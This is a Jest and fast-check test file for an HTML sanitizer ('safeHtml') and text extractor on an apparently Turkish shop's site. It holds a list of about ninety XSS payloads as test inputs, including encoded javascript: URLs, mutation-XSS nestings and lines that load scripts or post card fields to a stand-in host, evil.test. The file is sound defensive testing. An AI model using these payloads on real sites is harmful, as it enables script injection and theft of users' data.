import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { type DefaultTreeAdapterTypes, html, parseFragment } from 'parse5';
import { HTML_ATTRIBUTES, HTML_TAGS } from '../../../contract/common/html-rules.js';
import { plainText, safeHtml } from './safe-html.js';

type Node = DefaultTreeAdapterTypes.ChildNode;
type Element = DefaultTreeAdapterTypes.Element;

/** Every element a browser would make of it, those in templates too. */
function elementsOf(nodes: readonly Node[]): Element[] {
  return nodes.flatMap((node) => {
    if (!('tagName' in node)) return [];
    const inside = 'content' in node ? node.content.childNodes : [];
    return [node, ...elementsOf([...node.childNodes, ...inside])];
  });
}

/** What a browser would find in it that nobody may put there. */
function dangersIn(text: string): string[] {
  const { childNodes } = parseFragment(text);
  return [...elementsOf(childNodes).flatMap(dangersOf), ...commentsIn(childNodes)];
}

function commentsIn(nodes: readonly Node[]): string[] {
  return nodes.flatMap((node) => {
    if (node.nodeName === '#comment' || node.nodeName === '#documentType') return [node.nodeName];
    return 'childNodes' in node ? commentsIn(node.childNodes) : [];
  });
}

function dangersOf({ tagName, namespaceURI, attrs }: Element): string[] {
  // A browser adds the body of a table by itself.
  const isKnown = (HTML_TAGS as readonly string[]).includes(tagName);
  const allowed: readonly string[] =
    Object.entries(HTML_ATTRIBUTES).find(([tag]) => tag === tagName)?.[1] ?? [];
  return [
    ...(isKnown && namespaceURI === html.NS.HTML ? [] : [`<${tagName}>`]),
    ...attrs.filter(({ name }) => !allowed.includes(name)).map(({ name }) => `${tagName}[${name}]`),
    ...attrs.flatMap(({ name, value }) => (isHarmless(name, value) ? [] : [`${name}=${value}`])),
  ];
}

/** As the browser reads an address on a page of the shop. */
function isHarmless(name: string, value: string): boolean {
  if (name !== 'href' && name !== 'src') return true;
  const url = new URL(value, 'https://toprak.test/blog/yazi');
  if (name === 'src') return url.origin === 'https://toprak.test' && /^\/(?:media|api)\//.test(url.pathname);
  return ['https:', 'http:', 'mailto:', 'tel:'].includes(url.protocol);
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script><p>x</p>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a-1.webp/160.webp" onload=alert(1)>',
  '<img src="/media/a-1.webp/160.webp"onerror=alert(1)//">',
  '<img src=`x` onerror=`alert(1)`>',
  '<img/src/onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="https://evil.test/pixel.gif">',
  '<img src="//evil.test/pixel.gif">',
  '<img src="/media/../../evil">',
  '<img src="/media/..%2f..%2fapi/auth.php/1.webp">',
  '<img src="/api/auth.php?x=/api/uploads/a.webp">',
  '<img src="/api/serve_image.php?file=//evil.test/a">',
  '<img srcset="https://evil.test/a 1x" src="/api/uploads/a.webp">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&#0:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://toprak.test/1">x</a>',
  '<a href="//evil.test/phish">x</a>',
  '<a href="\\\\evil.test/phish">x</a>',
  '<a href="/\\evil.test/phish">x</a>',
  '<a href="/\t/evil.test/phish">x</a>',
  '<a href="https://evil.test" target="_blank" onclick="alert(1)" style="position:fixed">x</a>',
  '<a href="/" ping="https://evil.test" download>x</a>',
  '<p style="background:url(javascript:alert(1))" class="a" id="root">x</p>',
  '<p onclick="alert(1)" onpointerrawupdate="alert(1)">x</p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)"></object><embed src="https://evil.test">',
  '<form action="https://evil.test"><input name=card><button>Öde</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)><frameset onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<x onfocus=alert(1) tabindex=1 autofocus>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><!DOCTYPE html>',
  '<<p>script>alert(1)<</p>/script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  '<p>\u202e<img src\u00a0=x onerror\u00a0=alert(1)></p>',
  '<a\u0000href="javascript:alert(1)">x</a>',
  '<table><tr><td><script>alert(1)</script><a href="javascript:alert(1)">x</a></table>',
  '<pre>\n\n<code><img src=x onerror=alert(1)></code>',
  '<h1><h1><svg/onload=alert(1)></h1>',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<img alt="--><script>alert(1)</script>" src="/api/uploads/a.webp">',
  '<img alt="&quot; onerror=alert(1) x=&quot;" src="/api/uploads/a.webp">',
  '<a href="https://evil.test/&quot;onmouseover=alert(1) x=">x</a>',
];

const MARKUP = fc
  .array(
    fc.oneof(
      fc.constantFrom(...HTML_TAGS.flatMap((tag) => [`<${tag}>`, `</${tag}>`])),
      fc.constantFrom(
        '<h1>',
        '<b>',
        '</b>',
        '<script>',
        '</script>',
        '<svg>',
        '</svg>',
        '<style>',
        '<!--',
        '-->',
      ),
      fc.constantFrom(
        '<a href="',
        '<img src="/media/a.webp/1.webp" alt="',
        '">',
        '&amp;',
        '&lt',
        '&#x6a',
        '"',
        '<',
        '>',
      ),
      fc.constantFrom(...ATTACKS),
      fc.webUrl().map((url) => `<a href="${url}">`),
      fc.string({ maxLength: 8, unit: 'binary' }),
    ),
    { maxLength: 14 },
  )
  .map((parts) => parts.join(''));

describe('A formatted text of the shop', () => {
  it.each(ATTACKS)('does nothing with %s', (attack) => {
    expect(dangersIn(safeHtml(attack))).toEqual([]);
    expect(dangersIn(safeHtml(`<p>önce ${attack} sonra</p>`))).toEqual([]);
    expect(dangersIn(safeHtml(`<table><tr><td>${attack}`))).toEqual([]);
  });

  it('would not pass these uncleaned', () => {
    const letThrough = ATTACKS.filter((attack) => dangersIn(attack).length === 0);

    // Mere letters, addresses that only a link check finds, and what a browser already takes for harmless.
    expect(letThrough.length).toBeLessThan(20);
  });

  it('is harmless and in its one form, whatever was handed in', () => {
    fc.assert(
      fc.property(MARKUP, (markup) => {
        const safe = safeHtml(markup);
        expect(dangersIn(safe)).toEqual([]);
        expect(safeHtml(safe)).toBe(safe);
      }),
      { numRuns: 500 },
    );
  });

  it.each([
    ['<p>Kil <strong>sabır</strong> ister.<br />Biz de.</p>'],
    ['<h2>Bir</h2><h3>İki</h3><h4>Üç</h4><hr /><blockquote><p>Söz.</p></blockquote>'],
    ['<ul><li>bir</li></ul><ol start="3"><li><em>iki</em> <u>üç</u> <s>dört</s></li></ol>'],
    ['<pre><code>a &lt; b &amp;&amp; c</code></pre>'],
    [
      '<table><caption>Dereceler</caption><tbody><tr><th scope="row">Bisküvi</th><td colspan="2">1.000 °C</td></tr></tbody></table>',
    ],
    ['<a href="/workshops?ay=2026-12#takvim">takvim</a><a href="#ust">yukarı</a>'],
    ['<a href="mailto:merhaba@toprak.test">yazın</a><a href="tel:+902165550148">arayın</a>'],
    ['<a href="https://example.org/a?b=1&amp;c=2" rel="noopener nofollow ugc">kaynak</a>'],
    [
      '<figure><img src="/media/firin-rafi-1a2b3c4d.webp/960.webp" alt="Fırın" width="1600" height="1067" loading="lazy" /><figcaption>Sabah</figcaption></figure>',
    ],
    ['<img src="/api/serve_image.php?file=firin-rafi-1a2b3c4d.webp&amp;w=960" alt="" loading="lazy" />'],
  ])('keeps what an editor writes: %s', (html) => {
    expect(safeHtml(html)).toBe(html);
  });

  it.each([
    ['<h1>Başlık</h1><h6>Ek</h6>', '<h2>Başlık</h2><h4>Ek</h4>'],
    ['<b>kalın</b> <i>eğik</i> <del>eski</del>', '<strong>kalın</strong> <em>eğik</em> <s>eski</s>'],
    ['<div><span style="color:red">söz</span></div>', 'söz'],
    [
      '<a href="https://example.org" rel="me" target="_blank">x</a>',
      '<a href="https://example.org/" rel="noopener nofollow ugc">x</a>',
    ],
    [
      '<a href="HTTPS://Example.ORG/Ç">x</a>',
      '<a href="https://example.org/%C3%87" rel="noopener nofollow ugc">x</a>',
    ],
    ['<a href="javascript:alert(1)">söz kalır</a>', '<a>söz kalır</a>'],
    ['<img src="/api/uploads/a.webp">', '<img src="/api/uploads/a.webp" alt="" loading="lazy" />'],
    ['<img src="https://example.org/a.png" alt="a">sonra', 'sonra'],
    [
      '<img src="/api/uploads/a.webp" width="100%" height="2">',
      '<img src="/api/uploads/a.webp" alt="" loading="lazy" />',
    ],
    ['<p>açık kalan', '<p>açık kalan</p>'],
  ])('makes %s into %s', (html, expected) => {
    expect(safeHtml(html)).toBe(expected);
  });

  it('bears texts that are built to exhaust it', () => {
    const deep = '<p><em>'.repeat(20_000) + 'x';

    expect(dangersIn(safeHtml(deep))).toEqual([]);
    expect(safeHtml('<a href="'.repeat(20_000)).length).toBeLessThan(1_000_000);
  });
});

describe('The words of a formatted text', () => {
  it.each([
    [
      '<h2>Derece değil, yol</h2><p>Son yüz dereceyi <strong>yavaş</strong>ça geçeriz.</p>',
      'Derece değil, yol Son yüz dereceyi yavaşça geçeriz.',
    ],
    ['<ul><li>bir</li><li>iki<br>üç</li></ul>', 'bir iki üç'],
    ['<p>5 &lt; 6 &amp;&nbsp;&quot;evet&quot;</p>', '5 < 6 & "evet"'],
    ['<p>&amp;lt;b&amp;gt;</p>', '&lt;b&gt;'],
    ['<script>gizli()</script><img alt="resim" src="/api/uploads/a.webp"><p>görünen</p>', 'görünen'],
    ['', ''],
  ])('of %s are %s', (html, words) => {
    expect(plainText(html)).toBe(words);
  });
});
